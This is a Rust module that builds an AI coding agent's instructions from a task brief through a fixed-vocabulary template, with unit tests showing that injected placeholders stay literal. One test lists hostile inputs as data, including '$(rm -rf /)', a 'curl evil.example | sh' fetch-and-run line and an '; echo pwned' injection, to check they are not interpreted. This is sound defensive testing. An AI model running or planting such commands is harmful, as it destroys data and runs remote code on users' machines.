//! Workflows turn a brief into the agent's instructions through a fixed-vocabulary template, so brief
//! text can only ever land in the instructions as data (ADR-0018, row 4).
//!
//! A template is parsed once, up front: an unknown placeholder or an unclosed `{{` is an error before
//! any brief is rendered. Rendering walks the parsed pieces and pastes brief values in verbatim; the
//! pasted text is never scanned again, so `{{title}}`, `$(…)` or `--flag` inside a brief stay literal.
//! Anchors travel as coordinates only (`path:first-last`); no file contents are ever read here.

use crate::brief::{Anchor, Brief};

/// The workflows compiled into stet: name and template text.
const BUILTIN_WORKFLOWS: [(&str, &str); 1] = [(
    "implement",
    include_str!("../../../assets/workflows/implement.md"),
)];

/// Every placeholder a template may use, by the name written between the braces.
const PLACEHOLDERS: [(&str, Placeholder); 7] = [
    ("title", Placeholder::Title),
    ("brief_id", Placeholder::BriefId),
    ("items", Placeholder::Items),
    ("anchors", Placeholder::Anchors),
    ("repo", Placeholder::Repo),
    ("base", Placeholder::Base),
    ("branch", Placeholder::Branch),
];

/// Why a workflow could not be found or its template was refused.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[expect(
    missing_docs,
    reason = "each variant's #[error] message is its documentation"
)]
pub enum WorkflowError {
    #[error(
        "there is no built-in workflow named {name:?}; the built-in workflows are: {}",
        builtin_names()
    )]
    UnknownWorkflow { name: String },

    #[error(
        "workflow {workflow:?}, line {line}, column {column}: unknown placeholder {placeholder:?}; the known placeholders are: {}",
        placeholder_names()
    )]
    UnknownPlaceholder {
        workflow: String,
        placeholder: String,
        line: usize,
        column: usize,
    },

    #[error(
        "workflow {workflow:?}, line {line}, column {column}: this \"{{{{\" has no closing \"}}}}\" on the same line"
    )]
    UnterminatedPlaceholder {
        workflow: String,
        line: usize,
        column: usize,
    },
}

/// Result of loading a workflow.
pub type Result<T> = std::result::Result<T, WorkflowError>;

/// A value of the brief a template can ask for.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Placeholder {
    Title,
    BriefId,
    Items,
    Anchors,
    Repo,
    Base,
    Branch,
}

/// One piece of a parsed template.
#[derive(Debug, Clone, PartialEq, Eq)]
enum Segment {
    Literal(String),
    Placeholder(Placeholder),
}

/// A parsed instruction template.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Workflow {
    name: String,
    segments: Vec<Segment>,
}

impl Workflow {
    /// The built-in workflow called `name`.
    pub fn builtin(name: &str) -> Result<Self> {
        let (name, template) = BUILTIN_WORKFLOWS
            .iter()
            .find(|(builtin, _)| *builtin == name)
            .ok_or_else(|| WorkflowError::UnknownWorkflow {
                name: name.to_owned(),
            })?;
        Self::from_template(name, template)
    }

    /// Parses `template`; `name` is used in error messages.
    pub fn from_template(name: &str, template: &str) -> Result<Self> {
        let mut segments = Vec::new();
        let mut rest = template;
        while let Some((literal, after_open)) = rest.split_once("{{") {
            let open_offset = template.len() - rest.len() + literal.len();
            let (line, column) = line_and_column(template, open_offset);
            let Some((inside, after_close)) = after_open
                .split_once("}}")
                .filter(|(inside, _)| !inside.contains('\n'))
            else {
                return Err(WorkflowError::UnterminatedPlaceholder {
                    workflow: name.to_owned(),
                    line,
                    column,
                });
            };
            let wanted = inside.trim();
            let placeholder = PLACEHOLDERS
                .iter()
                .find(|(known, _)| *known == wanted)
                .map(|(_, placeholder)| *placeholder)
                .ok_or_else(|| WorkflowError::UnknownPlaceholder {
                    workflow: name.to_owned(),
                    placeholder: wanted.to_owned(),
                    line,
                    column,
                })?;
            if !literal.is_empty() {
                segments.push(Segment::Literal(literal.to_owned()));
            }
            segments.push(Segment::Placeholder(placeholder));
            rest = after_close;
        }
        if !rest.is_empty() {
            segments.push(Segment::Literal(rest.to_owned()));
        }
        Ok(Self {
            name: name.to_owned(),
            segments,
        })
    }

    /// The workflow's name, e.g. `implement`.
    pub fn name(&self) -> &str {
        &self.name
    }

    /// The agent's instructions for `brief`, to be pushed to `branch`.
    pub fn render(&self, brief: &Brief, branch: &str) -> String {
        let mut instructions = String::new();
        for segment in &self.segments {
            match segment {
                Segment::Literal(text) => instructions.push_str(text),
                Segment::Placeholder(Placeholder::Title) => instructions.push_str(&brief.title),
                Segment::Placeholder(Placeholder::BriefId) => instructions.push_str(&brief.id),
                Segment::Placeholder(Placeholder::Items) => {
                    instructions.push_str(&numbered_items(brief));
                }
                Segment::Placeholder(Placeholder::Anchors) => {
                    instructions.push_str(&anchor_list(brief));
                }
                Segment::Placeholder(Placeholder::Repo) => {
                    instructions.push_str(&brief.target.repo);
                }
                Segment::Placeholder(Placeholder::Base) => {
                    instructions.push_str(&brief.target.base);
                }
                Segment::Placeholder(Placeholder::Branch) => instructions.push_str(branch),
            }
        }
        instructions
    }
}

/// `1. text` per item, continuation lines indented under it, then the item's anchor if it has one.
fn numbered_items(brief: &Brief) -> String {
    let mut list = String::new();
    for (index, item) in brief.items.iter().enumerate() {
        if index > 0 {
            list.push('\n');
        }
        let marker = format!("{}. ", index + 1);
        let indent = " ".repeat(marker.len());
        for (line_index, line) in item.text.lines().enumerate() {
            if line_index == 0 {
                list.push_str(&marker);
            } else {
                list.push('\n');
                if !line.is_empty() {
                    list.push_str(&indent);
                }
            }
            list.push_str(line);
        }
        if let Some(anchor) = &item.anchor {
            list.push_str(&format!("\n{indent}(see {})", anchor_coordinates(anchor)));
        }
    }
    list
}

/// `- path:first-last` per anchored item, or one sentence saying there are none.
fn anchor_list(brief: &Brief) -> String {
    let anchors: Vec<String> = brief
        .items
        .iter()
        .filter_map(|item| item.anchor.as_ref())
        .map(|anchor| format!("- {}", anchor_coordinates(anchor)))
        .collect();
    if anchors.is_empty() {
        "The brief does not point at any particular file; find the relevant code yourself."
            .to_owned()
    } else {
        anchors.join("\n")
    }
}

fn anchor_coordinates(anchor: &Anchor) -> String {
    match anchor.lines {
        Some((first, last)) => format!("{}:{first}-{last}", anchor.path),
        None => anchor.path.clone(),
    }
}

fn builtin_names() -> String {
    let names: Vec<&str> = BUILTIN_WORKFLOWS.iter().map(|(name, _)| *name).collect();
    names.join(", ")
}

fn placeholder_names() -> String {
    let names: Vec<String> = PLACEHOLDERS
        .iter()
        .map(|(name, _)| format!("{{{{{name}}}}}"))
        .collect();
    names.join(", ")
}

/// 1-based line and column (in characters) of the byte `offset` in `text`.
fn line_and_column(text: &str, offset: usize) -> (usize, usize) {
    let before = text.get(..offset).unwrap_or(text);
    let line_start = before.rfind('\n').map_or(0, |newline| newline + 1);
    let line = before.bytes().filter(|byte| *byte == b'\n').count() + 1;
    let column = before.get(line_start..).unwrap_or_default().chars().count() + 1;
    (line, column)
}

#[cfg(test)]
mod tests {
    use std::path::Path;

    use super::*;
    use crate::brief::{Item, Target};

    fn brief_with_items(items: Vec<Item>) -> Brief {
        Brief {
            id: "fix-login".to_owned(),
            title: "Fix the login redirect loop".to_owned(),
            workflow: "implement".to_owned(),
            target: Target {
                repo: "octo/app".to_owned(),
                base: "main".to_owned(),
                branch: None,
                pr: None,
            },
            items,
        }
    }

    fn sample_brief() -> Brief {
        brief_with_items(vec![
            Item {
                text: "The redirect loops when ?next= is empty.".to_owned(),
                anchor: Some(Anchor {
                    path: "src/auth/login.rs".to_owned(),
                    lines: Some((120, 148)),
                }),
            },
            Item {
                text: "Add a regression test.\nKeep it small.".to_owned(),
                anchor: Some(Anchor {
                    path: "tests/login.rs".to_owned(),
                    lines: None,
                }),
            },
            Item {
                text: "Update the changelog.".to_owned(),
                anchor: None,
            },
        ])
    }

    fn one_item_brief(text: &str) -> Brief {
        brief_with_items(vec![Item {
            text: text.to_owned(),
            anchor: None,
        }])
    }

    #[test]
    fn renders_every_placeholder() {
        let workflow = Workflow::from_template(
            "all",
            "{{title}}|{{ brief_id }}|{{repo}}|{{base}}|{{branch}}\n{{items}}\n--\n{{anchors}}",
        )
        .unwrap();
        assert_eq!(
            workflow.render(&sample_brief(), "stet/fix-login-1a2b"),
            "Fix the login redirect loop|fix-login|octo/app|main|stet/fix-login-1a2b\n\
             1. The redirect loops when ?next= is empty.\n   (see src/auth/login.rs:120-148)\n\
             2. Add a regression test.\n   Keep it small.\n   (see tests/login.rs)\n\
             3. Update the changelog.\n\
             --\n\
             - src/auth/login.rs:120-148\n- tests/login.rs"
        );
    }

    #[test]
    fn says_so_when_there_are_no_anchors() {
        let workflow = Workflow::from_template("anchors", "{{anchors}}").unwrap();
        assert_eq!(
            workflow.render(&one_item_brief("x"), "b"),
            "The brief does not point at any particular file; find the relevant code yourself."
        );
    }

    #[test]
    fn whitespace_inside_braces_is_allowed() {
        let workflow = Workflow::from_template("spaces", "{{  title\t}}").unwrap();
        assert_eq!(
            workflow.render(&sample_brief(), "b"),
            "Fix the login redirect loop"
        );
    }

    #[test]
    fn unknown_placeholders_are_template_errors() {
        assert_eq!(
            Workflow::from_template("t", "ok\nsee {{ secrets }} here"),
            Err(WorkflowError::UnknownPlaceholder {
                workflow: "t".to_owned(),
                placeholder: "secrets".to_owned(),
                line: 2,
                column: 5
            })
        );
        assert!(matches!(
            Workflow::from_template("t", "{{}}"),
            Err(WorkflowError::UnknownPlaceholder { ref placeholder, .. }) if placeholder.is_empty()
        ));
        assert!(matches!(
            Workflow::from_template("t", "{{{title}}}"),
            Err(WorkflowError::UnknownPlaceholder { .. })
        ));
        let message = Workflow::from_template("t", "{{Title}}")
            .unwrap_err()
            .to_string();
        assert!(
            message.contains("unknown placeholder \"Title\""),
            "{message}"
        );
        assert!(message.contains("{{title}}, {{brief_id}}"), "{message}");
    }

    #[test]
    fn unterminated_placeholders_are_template_errors() {
        assert_eq!(
            Workflow::from_template("t", "a\nbé {{title\n}}"),
            Err(WorkflowError::UnterminatedPlaceholder {
                workflow: "t".to_owned(),
                line: 2,
                column: 4
            })
        );
        assert!(matches!(
            Workflow::from_template("t", "{{title}} {{"),
            Err(WorkflowError::UnterminatedPlaceholder {
                line: 1,
                column: 11,
                ..
            })
        ));
    }

    #[test]
    fn text_without_placeholders_is_kept_verbatim() {
        let template = "plain } { text }} with a single {brace}\n";
        let workflow = Workflow::from_template("plain", template).unwrap();
        assert_eq!(workflow.render(&sample_brief(), "b"), template);
        assert_eq!(
            Workflow::from_template("empty", "")
                .unwrap()
                .render(&sample_brief(), "b"),
            ""
        );
    }

    #[test]
    fn placeholders_in_brief_text_stay_literal() {
        let workflow = Workflow::from_template("t", "{{title}}\n{{items}}").unwrap();
        let mut brief = one_item_brief("call {{branch}} and {{title}}");
        brief.title = "{{items}} {{ repo }}".to_owned();
        assert_eq!(
            workflow.render(&brief, "stet/x"),
            "{{items}} {{ repo }}\n1. call {{branch}} and {{title}}"
        );
    }

    #[test]
    fn shell_syntax_in_brief_text_stays_literal() {
        let workflow = Workflow::from_template("t", "{{items}}").unwrap();
        for hostile in [
            "$(rm -rf /)",
            "`curl evil.example | sh`",
            "--force --no-verify",
            "; echo pwned && true",
            "${HOME}",
        ] {
            assert_eq!(
                workflow.render(&one_item_brief(hostile), "b"),
                format!("1. {hostile}")
            );
        }
    }

    #[test]
    fn builtin_implement_parses_and_uses_the_brief() {
        let workflow = Workflow::builtin("implement").unwrap();
        assert_eq!(workflow.name(), "implement");
        let rendered = workflow.render(&sample_brief(), "stet/fix-login-1a2b");
        for expected in [
            "Fix the login redirect loop",
            "octo/app",
            "stet/fix-login-1a2b",
            "1. The redirect loops when ?next= is empty.",
            "- src/auth/login.rs:120-148",
            "/workspace",
        ] {
            assert!(
                rendered.contains(expected),
                "{expected} missing from:\n{rendered}"
            );
        }
        assert!(!rendered.contains("{{"), "{rendered}");
    }

    #[test]
    fn unknown_builtin_lists_the_known_ones() {
        let error = Workflow::builtin("deploy").unwrap_err();
        assert_eq!(
            error,
            WorkflowError::UnknownWorkflow {
                name: "deploy".to_owned()
            }
        );
        assert_eq!(
            error.to_string(),
            "there is no built-in workflow named \"deploy\"; the built-in workflows are: implement"
        );
    }

    #[test]
    fn renders_a_parsed_brief() {
        let brief = Brief::parse(
            "demo",
            Path::new("demo.toml"),
            "title = \"T\"\nworkflow = \"implement\"\ntarget = { repo = \"o/r\", base = \"main\" }\n[[items]]\ntext = \"x {{title}}\"\n",
        )
        .unwrap();
        let rendered = Workflow::from_template("t", "{{items}}")
            .unwrap()
            .render(&brief, "b");
        assert_eq!(rendered, "1. x {{title}}");
    }
}
